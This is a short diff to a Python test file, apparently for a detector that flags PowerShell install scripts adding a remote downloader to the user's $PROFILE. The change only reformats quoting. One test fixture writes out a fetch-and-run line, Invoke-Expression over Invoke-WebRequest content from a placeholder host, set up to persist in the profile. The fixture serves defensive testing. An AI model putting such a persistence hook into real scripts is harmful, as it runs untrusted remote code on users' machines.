@@ -16,10 +16,10 @@ def test_profile_block_with_the_downloader_on_its_own_line(tmp_path: Path) -> No
         {
             "scripts/Install.ps1": "$src = 'https://prompt-themes.invalid/t/load.ps1'\n"
             "$hook = \"Invoke-Expression (Invoke-WebRequest -UseBasicParsing '$src').Content\"\n"
-            "$snippet = @\"\n"
+            '$snippet = @"\n'
             "# theme loader\n"
             "$hook\n"
-            "\"@\n"
+            '"@\n'
             "$snippet | Out-File -Append -FilePath $PROFILE\n"
         },
     )
@@ -31,10 +31,10 @@ def test_profile_block_importing_a_module_stays_clean(tmp_path: Path) -> None:
         tmp_path,
         {
             "scripts/Install.ps1": "$line = 'Import-Module PromptThemes'\n"
-            "$snippet = @\"\n"
+            '$snippet = @"\n'
             "# theme loader\n"
             "$line\n"
-            "\"@\n"
+            '"@\n'
             "$snippet | Out-File -Append -FilePath $PROFILE\n"
         },
     )
